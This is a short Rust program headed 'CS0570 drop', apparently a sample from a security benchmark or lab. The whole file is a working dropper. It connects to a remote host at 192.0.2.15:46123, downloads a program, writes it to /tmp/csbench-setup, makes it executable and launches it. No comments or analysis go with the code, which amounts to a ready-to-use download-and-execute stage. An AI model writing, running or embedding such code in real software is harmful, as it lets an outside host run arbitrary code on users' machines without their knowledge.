//! CS0570 drop
use std::fs::{self, Permissions};
use std::io::Read;
use std::net::{SocketAddr, TcpStream};
use std::os::unix::fs::PermissionsExt;
use std::process;

fn main() {
    let mut program = Vec::new();
    let server = SocketAddr::from(([192, 0, 2, 15], 46123));
    TcpStream::connect(server).unwrap().read_to_end(&mut program).unwrap();
    let place = "/tmp/csbench-setup";
    fs::write(place, program).unwrap();
    fs::set_permissions(place, Permissions::from_mode(0o755)).unwrap();
    process::Command::new(place).arg("192.0.2.15:46123").spawn().unwrap();
}
